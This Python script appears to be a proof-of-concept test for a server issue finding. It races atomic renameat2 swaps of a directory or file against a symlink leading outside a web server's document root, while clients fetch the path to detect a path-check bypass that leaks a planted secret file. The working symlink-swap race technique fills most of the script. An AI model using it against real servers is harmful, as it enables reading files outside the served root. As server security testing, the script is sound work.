#!/usr/bin/env python3
"""Rename race against a server's "resolve, check under root, then open" (issue 8, finding 2).

dir mode:  ROOT/racedir/secret.txt = "INSIDE", OUTSIDE/secret.txt = "OUTSIDE-SECRET",
           ROOT/racedir_link -> OUTSIDE (a symlink leading out of the root).
           Clients GET /racedir/secret.txt.
file mode: ROOT/racefile.txt = "INSIDE", ROOT/racefile_link -> OUTSIDE/secret.txt.
           Clients GET /racefile.txt.

One process swaps the two names in a tight loop with renameat2(RENAME_EXCHANGE) (atomic:
at every instant the name is either the inside entry or the symlink), while --clients
processes send keep-alive GETs one after another on one connection each (reconnecting if
the server closes). A correct server answers 200 "INSIDE" or refuses (404/403); a 200
carrying "OUTSIDE-SECRET" is the leak. Everything stops after --duration seconds.

Python 3 stdlib only; renameat2 through ctypes (libc.renameat2, else syscall 316 on
x86_64 / 276 on aarch64). Loopback is the intended target; every socket has a timeout.
"""

import argparse
import ctypes
import multiprocessing as mp
import os
import platform
import shutil
import socket
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2
INSIDE = b"INSIDE\n"
OUTSIDE = b"OUTSIDE-SECRET\n"


def parse_args():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--root", required=True, help="the server's document root")
    p.add_argument("--outside", required=True, help="a directory outside the root")
    p.add_argument("--mode", choices=("dir", "file"), default="dir")
    p.add_argument("--duration", type=float, default=20.0)
    p.add_argument("--clients", type=int, default=2)
    a = p.parse_args()
    if a.duration <= 0 or a.duration > 600 or not 1 <= a.clients <= 64:
        p.error("--duration must be in (0, 600] and --clients in [1, 64]")
    return a


def renameat2_fn():
    libc = ctypes.CDLL(None, use_errno=True)
    if hasattr(libc, "renameat2"):
        f = libc.renameat2
        f.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]
        f.restype = ctypes.c_int
        return lambda a, b: f(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
    nr = {"x86_64": 316, "aarch64": 276}.get(platform.machine())
    if nr is None:
        sys.exit("no renameat2 in libc and no known syscall number for " + platform.machine())
    sc = libc.syscall
    sc.restype = ctypes.c_long
    return lambda a, b: sc(ctypes.c_long(nr), ctypes.c_int(AT_FDCWD), ctypes.c_char_p(a),
                           ctypes.c_int(AT_FDCWD), ctypes.c_char_p(b), ctypes.c_uint(RENAME_EXCHANGE))


def remove(path):
    if os.path.islink(path) or os.path.isfile(path):
        os.unlink(path)
    elif os.path.isdir(path):
        shutil.rmtree(path)


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def layout(args):
    root, outside = os.path.realpath(args.root), os.path.realpath(args.outside)
    if outside == root or outside.startswith(root + os.sep):
        sys.exit("--outside must not be inside --root")
    os.makedirs(outside, exist_ok=True)
    write(os.path.join(outside, "secret.txt"), OUTSIDE)
    if args.mode == "dir":
        a, b = os.path.join(root, "racedir"), os.path.join(root, "racedir_link")
        remove(a)
        remove(b)
        os.mkdir(a)
        write(os.path.join(a, "secret.txt"), INSIDE)
        os.symlink(outside, b)
        return a, b, "/racedir/secret.txt"
    a, b = os.path.join(root, "racefile.txt"), os.path.join(root, "racefile_link")
    remove(a)
    remove(b)
    write(a, INSIDE)
    os.symlink(os.path.join(outside, "secret.txt"), b)
    return a, b, "/racefile.txt"


def swapper(a, b, end, out):
    swap = renameat2_fn()
    a, b = a.encode(), b.encode()
    n = fails = 0
    while True:
        for _ in range(200):
            if swap(a, b) == 0:
                n += 1
            else:
                fails += 1
        if time.monotonic() >= end:
            break
    # An even number of exchanges leaves the layout as it started.
    if n % 2 and swap(a, b) == 0:
        n += 1
    out.put(("swapper", n, fails, ctypes.get_errno()))


def client(host, port, path, end, out):
    req = ("GET %s HTTP/1.1\r\nHost: a\r\n\r\n" % path).encode()
    counts = {"total": 0, "inside": 0, "outside": 0, "other200": 0, "404": 0, "403": 0, "other": 0,
              "reconnects": 0, "errors": 0}
    s, buf = None, b""
    while time.monotonic() < end:
        try:
            if s is None:
                s = socket.create_connection((host, port), timeout=5)
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                counts["reconnects"] += 1
                buf = b""
            s.sendall(req)
            while True:
                i = buf.find(b"\r\n\r\n")
                if i >= 0:
                    break
                chunk = s.recv(65536)
                if not chunk:
                    raise ConnectionResetError("closed")
                buf += chunk
            head = buf[:i].decode("latin-1").split("\r\n")
            status = head[0].split(" ")[1]
            length, close = 0, False
            for line in head[1:]:
                k, _, v = line.partition(":")
                k = k.strip().lower()
                if k == "content-length":
                    length = int(v.strip())
                elif k == "connection" and v.strip().lower() == "close":
                    close = True
            while len(buf) < i + 4 + length:
                chunk = s.recv(65536)
                if not chunk:
                    raise ConnectionResetError("closed")
                buf += chunk
            body = buf[i + 4:i + 4 + length]
            buf = buf[i + 4 + length:]
            counts["total"] += 1
            if status == "200":
                if OUTSIDE.strip() in body:
                    counts["outside"] += 1
                elif body == INSIDE:
                    counts["inside"] += 1
                else:
                    counts["other200"] += 1
            elif status in ("404", "403"):
                counts[status] += 1
            else:
                counts["other"] += 1
            if close:
                s.close()
                s = None
        except (OSError, ValueError, IndexError):
            counts["errors"] += 1
            if s is not None:
                s.close()
            s = None
            time.sleep(0.01)
    if s is not None:
        s.close()
    out.put(("client", counts))


def main():
    args = parse_args()
    a, b, path = layout(args)
    print("# swap_race.py %s" % " ".join(sys.argv[1:]))
    print("# start %s, loadavg %s" % (time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()), open("/proc/loadavg").read().strip()))
    print("# exchanging %s <-> %s; clients GET %s" % (a, b, path))
    ctx = mp.get_context("fork")
    out = ctx.Queue()
    start = time.monotonic()
    end = start + args.duration
    procs = [ctx.Process(target=swapper, args=(a, b, end, out), daemon=True)]
    procs += [ctx.Process(target=client, args=(args.host, args.port, path, end, out), daemon=True)
              for _ in range(args.clients)]
    for p in procs:
        p.start()
    results = []
    for _ in procs:
        try:
            results.append(out.get(timeout=max(1.0, end - time.monotonic()) + 15))
        except Exception:
            break
    for p in procs:
        p.join(5)
        if p.is_alive():
            p.terminate()
    elapsed = time.monotonic() - start
    total = {}
    swaps = None
    for r in results:
        if r[0] == "swapper":
            swaps = r[1:]
        else:
            for k, v in r[1].items():
                total[k] = total.get(k, 0) + v
    print()
    if swaps:
        print("swaps: %d done, %d failed (last errno %d)" % swaps)
    else:
        print("swaps: swapper did not report")
    print("clients reporting: %d/%d; elapsed %.1f s" % (sum(1 for r in results if r[0] == "client"), args.clients, elapsed))
    t = lambda k: total.get(k, 0)
    print("responses:              %d" % t("total"))
    print("  200 INSIDE content:   %d" % t("inside"))
    print("  200 OUTSIDE content:  %d   <- the leak" % t("outside"))
    print("  200 other body:       %d" % t("other200"))
    print("  404:                  %d" % t("404"))
    print("  403:                  %d" % t("403"))
    print("  other status:         %d" % t("other"))
    print("connections opened: %d; socket errors/closes: %d" % (t("reconnects"), t("errors")))
    print("# end, loadavg %s" % open("/proc/loadavg").read().strip())
    print("SUMMARY mode=%s responses=%d inside=%d outside=%d other200=%d s404=%d s403=%d other=%d swaps=%s"
          % (args.mode, t("total"), t("inside"), t("outside"), t("other200"), t("404"), t("403"), t("other"),
             swaps[0] if swaps else "-"))


if __name__ == "__main__":
    main()
